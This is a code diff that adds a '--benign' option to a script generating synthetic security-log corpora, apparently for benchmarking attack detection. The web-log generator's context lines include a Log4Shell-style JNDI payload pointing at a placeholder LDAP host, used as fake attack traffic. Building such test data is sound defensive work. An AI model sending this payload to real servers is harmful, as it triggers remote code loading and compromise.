@@ -2,7 +2,7 @@
 
     python benchmarks/make_corpora.py windows-jsonl 1000000 --output /tmp/windows.jsonl [--attack-share 0.09]
     python benchmarks/make_corpora.py evtx 200000 --output /tmp/windows.evtx
-    python benchmarks/make_corpora.py syslog|zeek|web|firewall 1000000 --output FILE
+    python benchmarks/make_corpora.py syslog|zeek|web|firewall 1000000 --output FILE [--benign]
 
 ``windows-jsonl`` mixes generated events with varied copies of the attack samples in ``$VONGGAC_CORPORA`` (default
 ``../shared/data``); without them all events are generated. ``evtx`` repeats whole chunks of those samples. Output goes to
@@ -111,8 +111,8 @@ def firewall(n: int, random: Random) -> Iterator[str]:
         )
 
 
-def web(n: int, random: Random) -> Iterator[str]:
-    """Requests in the combined log format; one in two hundred is an attack."""
+def web(n: int, random: Random, *, is_benign: bool = False) -> Iterator[str]:
+    """Requests in the combined log format; one in two hundred is an attack, unless ``is_benign``."""
     clock = Clock(lambda t: f"{t.day:02}/{_MONTHS[t.month - 1]}/{t:%Y:%H:%M:%S} +0000")
     bits = random.getrandbits
     agents = tuple(
@@ -125,7 +125,7 @@ def web(n: int, random: Random) -> Iterator[str]:
         "/?q=${{jndi:ldap://198.51.100.9/{}}}",
     )
     for moment in moments(n):
-        attack = bits(8) == 0
+        attack = bits(8) == 0 and not is_benign
         uri = (
             random.choice(attacks).format(bits(20))
             if attack
@@ -247,10 +247,13 @@ def main(arguments: list[str] | None = None) -> None:
     parser.add_argument(
         "--attack-share", type=float, default=0.09, help="share of windows-jsonl events copied from attack samples"
     )
+    parser.add_argument("--benign", action="store_true", help="no attacks at all, whatever the share")
     parser.add_argument("--corpora", type=Path, default=CORPORA, help="folder of the samples")
     asked = parser.parse_args(arguments)
     if asked.n < 0 or not 0 <= asked.attack_share <= 1:
         parser.error("n must not be negative, and the share must be between 0 and 1")
+    if asked.kind == "evtx" and asked.benign:
+        parser.error("evtx is made of attack samples: none of it is benign")
     if asked.kind == "evtx" and asked.output is None:
         parser.error("evtx needs --output: its header is written last")
     random, begin = Random(asked.seed), time.perf_counter()
@@ -259,7 +262,10 @@ def main(arguments: list[str] | None = None) -> None:
         if asked.kind == "evtx":
             n = write_evtx(asked.n, random, out, asked.corpora)
         elif asked.kind == "windows-jsonl":
-            write_lines(windows_lines(asked.n, asked.attack_share, random, asked.corpora, START), out)
+            share = 0 if asked.benign else asked.attack_share
+            write_lines(windows_lines(asked.n, share, random, asked.corpora, START), out)
+        elif asked.kind == "web":
+            write_lines(web(asked.n, random, is_benign=asked.benign), out)
         else:
             write_lines(KINDS[asked.kind](asked.n, random), out)
     seconds = time.perf_counter() - begin
